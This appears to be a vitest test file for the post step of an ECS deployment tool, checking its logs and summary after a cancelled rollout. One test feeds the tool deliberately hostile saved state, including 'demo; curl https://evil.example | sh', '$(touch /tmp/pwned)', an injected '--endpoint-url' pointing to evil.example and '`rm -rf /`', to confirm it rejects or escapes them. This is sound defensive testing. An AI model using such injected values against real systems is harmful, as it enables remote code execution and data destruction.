/** The post step whole, with a fake runtime over the lab: what it logs and writes to the summary. */
import { describe, expect, it } from 'vitest';
import { type PostRuntime, post } from '../../src/post/post';
import type { Progress } from '../../src/post/progress';
import { CLUSTER, scenario } from '../engine/rolling/scenario';
import { consoleOrServer, markdownProblems } from '../support/markdown-check';

function postRuntime(s: ReturnType<typeof scenario>, saved: string) {
  const summaries: string[] = [];
  const rt: PostRuntime = {
    log: s.log,
    getState: (name) => (name === 'progress' ? saved : ''),
    writeSummary: async (markdown) => {
      summaries.push(markdown);
    },
    ecs: async () => s.aws.ecs,
  };
  return { rt, summaries };
}

const arn = (s: ReturnType<typeof scenario>, family: string, revision: number) =>
  `arn:aws:ecs:${s.lab.region}:${s.lab.account}:task-definition/${family}:${revision}`;

function stoppedIn(s: ReturnType<typeof scenario>, phase: string, apiCurrent: number): Progress {
  return {
    command: 'deploy',
    release: 'c0ffee',
    environment: 'production',
    cluster: CLUSTER,
    region: s.lab.region,
    phase,
    services: [
      {
        service: 'demo-api',
        previous: arn(s, 'demo-api', 1),
        current: arn(s, 'demo-api', apiCurrent),
        state: 'pending',
      },
      {
        service: 'demo-web',
        previous: arn(s, 'demo-web', 1),
        current: arn(s, 'demo-web', 2),
        state: 'pending',
      },
    ],
  };
}

const infos = (s: ReturnType<typeof scenario>) =>
  s.log.lines.filter((l) => l.level === 'info').map((l) => l.message);

describe('post step', () => {
  it('says nothing and asks AWS nothing when the main step changed nothing or finished', async () => {
    for (const saved of ['', JSON.stringify({ ...stoppedIn(scenario(), 'done', 2), result: 'deployed' })]) {
      const s = scenario();
      const { rt, summaries } = postRuntime(s, saved);
      await post(rt);
      expect(infos(s)).toEqual([]);
      expect(summaries).toEqual([]);
      expect(s.lab.recorder.calls('ecs', 'DescribeServices')).toHaveLength(0);
    }
  });

  it('a run stopped mid-rollout: where each service stands, and the summary with the command to confirm', async () => {
    const s = scenario();
    const { rt, summaries } = postRuntime(s, JSON.stringify(stoppedIn(s, 'rollout', 2)));
    await post(rt);

    expect(infos(s)[0]).toBe(
      'ecs-release post: the main step stopped during rollout. Where each service stands now:',
    );
    // Every service still runs revision 1, which this release had as previous.
    expect(infos(s).slice(1)).toEqual([
      `  demo-api: ${arn(s, 'demo-api', 1)} (the previous release)`,
      `  demo-web: ${arn(s, 'demo-web', 1)} (the previous release)`,
      'ecs-release post: every service is on one release (deployments may still be draining).',
    ]);
    expect(s.log.lines.filter((l) => l.level === 'warning')).toEqual([]);
    expect(summaries).toHaveLength(1);
    expect(summaries[0]).toContain('### ecs-release: after cancellation');
    expect(summaries[0]).toContain(`aws ecs describe-services --region ${s.lab.region} --cluster ${CLUSTER}`);
  });

  it('services on different releases: a warning that names each one', async () => {
    const s = scenario();
    const progress = stoppedIn(s, 'rollout', 2);
    // demo-web had already moved: its release revision is the one it runs now (1).
    const web = progress.services[1];
    if (web) Object.assign(web, { previous: arn(s, 'demo-web', 5), current: arn(s, 'demo-web', 1) });
    const { rt } = postRuntime(s, JSON.stringify(progress));
    await post(rt);
    expect(s.log.lines.filter((l) => l.level === 'warning').map((l) => l.message)).toEqual([
      `ecs-release post: services are not on one release yet: demo-api: ${arn(s, 'demo-api', 1)} (the previous release); demo-web: ${arn(s, 'demo-web', 1)} (release c0ffee)`,
    ]);
  });

  it('saved state is untrusted: a field that is not what the main step writes means a warning, no AWS call, no command', async () => {
    const s0 = scenario();
    const valid = stoppedIn(s0, 'rollout', 2);
    const hostile: [string, string][] = [
      ['not json {', 'it is not JSON'],
      ['[]', 'it is not an object'],
      [
        JSON.stringify({ ...valid, region: 'eu-west-1 --endpoint-url https://evil.example' }),
        'field "region"',
      ],
      [JSON.stringify({ ...valid, cluster: 'demo; curl https://evil.example | sh' }), 'field "cluster"'],
      [JSON.stringify({ ...valid, release: '<img src=x>' }), 'field "release"'],
      [
        JSON.stringify({ ...valid, services: [{ service: "$(touch /tmp/pwned)'", state: 'pending' }] }),
        'field "services[0].service"',
      ],
      [
        JSON.stringify({
          ...valid,
          services: [{ service: 'api', current: '##[stop-commands]x', state: 'x' }],
        }),
        'field "services[0].current"',
      ],
      [JSON.stringify({ ...valid, services: 'api' }), 'field "services"'],
    ];
    for (const [saved, problem] of hostile) {
      const s = scenario();
      const { rt, summaries } = postRuntime(s, saved);
      await post(rt);
      const warnings = s.log.lines.filter((l) => l.level === 'warning').map((l) => l.message);
      expect(warnings, saved).toEqual([
        `ecs-release post: the saved progress is not what the main step writes (${problem}${problem.startsWith('field') ? ' is not valid' : ''}); nothing checked`,
      ]);
      expect(summaries).toEqual([]);
      expect(s.lab.recorder.calls('ecs', 'DescribeServices')).toHaveLength(0);
    }
  });

  it('builds "confirm with" from the checked names only, each a shell word, and escapes what it writes', async () => {
    const s = scenario();
    const progress = { ...stoppedIn(s, 'rollout', 2), extra: '<img src=x> `rm -rf /`' };
    const { rt, summaries } = postRuntime(s, JSON.stringify(progress));
    await post(rt);
    const summary = summaries[0] ?? '';
    expect(summary).not.toContain('extra');
    expect(summary).toContain(
      `aws ecs describe-services --region ${s.lab.region} --cluster ${CLUSTER} --services demo-api demo-web --query`,
    );
    expect(markdownProblems(summary, consoleOrServer('https://github.com'))).toEqual([]);
  });
});
